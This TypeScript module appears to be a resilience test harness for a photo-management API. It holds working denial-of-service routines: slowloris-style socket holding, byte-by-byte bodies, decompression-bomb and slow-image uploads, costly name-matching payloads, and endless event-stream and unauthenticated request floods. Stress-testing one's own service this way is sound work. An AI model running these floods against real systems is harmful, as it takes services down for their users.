import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { bombs, slowJpeg } from '../../fixtures/pictures/hostile.ts'

/** What the hostile person has: the address, and tokens of a member and of somebody who manages photos. */
export interface Target {
  url: string
  member: string
  manager: string
  /** a run of the manager that never ends */
  runId: string
}

const SOCKETS = 1500
const OPENED_PER_SECOND = 100
const STREAMS = 500
const PAUSE_MS = 50

const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

/** Keeps `count` sockets open that send `head`, and then a byte now and then if `trickle` is set. */
async function holdSockets(
  url: string,
  count: number,
  head: string,
  trickle: boolean,
): Promise<void> {
  const { hostname, port } = new URL(url)
  const open = new Set<Socket>()
  for (;;) {
    while (open.size < count) {
      const socket = connect(Number(port), hostname)
      const forget = () => void open.delete(socket)
      socket.on('error', forget).on('close', forget).resume()
      socket.write(head)
      open.add(socket)
      // Holding many is the attack, not opening them: that a network is flooded is nothing that a server can mend.
      if (open.size % OPENED_PER_SECOND === 0) await sleep(1000)
    }
    await sleep(1000)
    if (trickle) for (const socket of open) socket.write('x')
  }
}

/** Sends requests without an end, `atOnce` at a time; what becomes of them doesn't matter. */
async function flood(atOnce: number, request: () => Promise<Response>): Promise<void> {
  const sender = async () => {
    for (;;) {
      const answer = await request().catch(() => null)
      await answer?.arrayBuffer().catch(() => null)
      await sleep(PAUSE_MS)
    }
  }
  await Promise.all(Array.from({ length: atOnce }, sender))
}

const json = { 'content-type': 'application/json' }
const matchOf = (names: string[], listed: string[]) =>
  JSON.stringify({ files: names.map((name) => ({ name, size: 1, listed })) })
const cyrillic = 'Александра Евгеньевна Щербакова-Юрьева Объедкова'
const matchBodies = [
  matchOf(
    Array.from({ length: 100 }, (_, n) => `${'_'.repeat(900)}${n}.jpg`),
    [],
  ),
  matchOf(
    Array.from({ length: 300 }, (_, n) => `${n}.jpg`),
    [cyrillic, `${cyrillic} Ящук`, `Ёлкина ${cyrillic}`],
  ),
  matchOf(
    Array.from({ length: 500 }, (_, n) => `${'a-b.c_'.repeat(30)}${n}.jpg`),
    [],
  ),
]

/** Each way in which one person could take the product down; none of them ends by itself. */
export const ways: Record<string, (target: Target) => Promise<unknown>> = {
  'sockets that upgrade': ({ url }) =>
    holdSockets(
      url,
      SOCKETS,
      'GET /health HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
      false,
    ),
  'bodies sent byte by byte': ({ url, member }) =>
    holdSockets(
      url,
      SOCKETS / 5,
      `POST /api/me/drafts HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${member}\r\nContent-Length: 9000000\r\n\r\n`,
      true,
    ),
  'pictures that take long': async ({ url, member }) => {
    const bomb = Object.values(bombs)[0]
    const pictures = [slowJpeg(4000), bomb ? await bomb.make() : Buffer.alloc(0)]
    let turn = 0
    const send = () => {
      const body = new Uint8Array(pictures[(turn += 1) % pictures.length] ?? [])
      return fetch(`${url}/api/me/drafts`, { method: 'POST', headers: bearer(member), body })
    }
    await flood(60, send)
  },
  'names that are hard to match': async ({ url, manager }) => {
    let turn = 0
    const send = () => {
      const body = matchBodies[(turn += 1) % matchBodies.length] ?? ''
      return fetch(`${url}/api/matches`, {
        method: 'POST',
        headers: { ...bearer(manager), ...json },
        body,
      })
    }
    await flood(8, send)
  },
  'event streams': ({ url, manager, runId }) =>
    flood(STREAMS, () => fetch(`${url}/api/runs/${runId}/events`, { headers: bearer(manager) })),
  'requests without a token': ({ url }) =>
    flood(20, () => fetch(`${url}/api/people`, { headers: bearer('not.a.token') })),
}
